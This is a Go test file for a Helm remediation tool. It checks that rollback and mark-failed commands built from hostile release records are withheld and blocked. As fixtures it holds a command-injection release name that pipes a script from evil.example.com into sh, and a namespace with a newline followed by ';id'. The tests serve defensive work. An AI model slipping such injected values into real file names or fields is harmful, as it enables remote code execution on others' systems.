package remediate

import (
	"strings"
	"testing"

	"github.com/unstick-dev/unstick/internal/finding"

	"github.com/unstick-dev/unstick/internal/helmrelease"
	"github.com/unstick-dev/unstick/internal/shellcmd"
	"github.com/unstick-dev/unstick/internal/snapshot"
)

// A fix step's own command is built from the record it acts on; a record naming its release
// `app$(…)` or its namespace with a line break withholds that command, and an attempt holding
// a withheld command is blocked: unstick does not write what it would not print. (The
// catalogue's rung, filled from the same record, is withheld too, so rules plan no such step
// in the first place; this is the second line.)
func TestHostileRecordWithholdsTheStepCommand(t *testing.T) {
	c := &snapshot.Cluster{Name: "prod", Context: "prod"}
	pl := &planner{snap: &snapshot.Snapshot{Clusters: []*snapshot.Cluster{c}}, seen: map[string]bool{}}
	for what, rel := range map[string]helmrelease.Release{
		"release name": {Name: "app$(curl${IFS}-s${IFS}evil.example.com|sh)", Namespace: "tenant-a"},
		"namespace":    {Name: "app", Namespace: "tenant-a\n;id"},
	} {
		current, target := rel, rel
		current.Revision, current.Status, current.SecretName = 2, "pending-upgrade", "sh.helm.release.v1.app.v2"
		target.Revision, target.Status, target.SecretName = 1, "deployed", "sh.helm.release.v1.app.v1"
		hist := []*helmrelease.Release{&target, &current}
		for _, s := range []Step{pl.rollbackStep(c, hist, &current, &target, Medium, "", nil), pl.markFailedStep(c, &current, Medium, "", nil)} {
			w := withheldCommand([]Step{s})
			if w == "" || !strings.Contains(w, "is not a valid") {
				t.Errorf("%s: %s step prints %q", what, s.Action, s.Commands)
			}
			for _, cmd := range s.Commands {
				if !shellcmd.IsWithheld(cmd) && strings.Contains(cmd, "evil") || strings.Contains(cmd, "\n") {
					t.Errorf("%s: %s step prints a runnable command with the value: %q", what, s.Action, cmd)
				}
			}
		}
	}
}

// Were a ladder filled from values that pass (the Secret's own name, say) while the record
// the step acts on holds others, the step's withheld command blocks its attempt: planned and
// shown, never run.
func TestAttemptWithWithheldCommandIsBlocked(t *testing.T) {
	bad := "app$(curl${IFS}-s${IFS}evil.example.com|sh)"
	c := &snapshot.Cluster{Name: "prod", Context: "prod", HelmReleases: []*helmrelease.Release{
		{Name: bad, Namespace: "tenant-a", Revision: 1, Status: "deployed", SecretName: "sh.helm.release.v1.app.v1"},
		{Name: bad, Namespace: "tenant-a", Revision: 2, Status: "pending-upgrade", SecretName: "sh.helm.release.v1.app.v2"},
	}}
	root := finding.Finding{ID: "helm/release-pending", Cluster: "prod",
		Object:      finding.ObjectRef{APIVersion: "v1", Kind: "Secret", Namespace: "tenant-a", Name: "sh.helm.release.v1.app.v2"},
		Remediation: []finding.Step{{Rung: RungRepair, Risk: "medium", Commands: []string{"helm --kube-context prod -n tenant-a rollback app 1"}}}}
	p := Build(Input{Snap: &snapshot.Snapshot{Clusters: []*snapshot.Cluster{c}}, Incidents: []finding.Incident{{RootCause: root}}, Options: Options{MaxRisk: High}})
	var a Attempt
	for _, ip := range p.Incidents {
		for _, x := range ip.Attempts {
			if len(x.Steps) == 1 && x.Steps[0].Action == HelmRollback {
				a = x
			}
		}
	}
	if len(a.Steps) != 1 || a.Steps[0].Action != HelmRollback {
		t.Fatalf("want the rollback planned (and blocked), got %+v", p.Incidents)
	}
	if a.Runnable() || !strings.Contains(a.Blocked, "is not a valid Helm release name") {
		t.Errorf("the attempt is not blocked by its withheld command: blocked %q, commands %q", a.Blocked, a.Steps[0].Commands)
	}
}
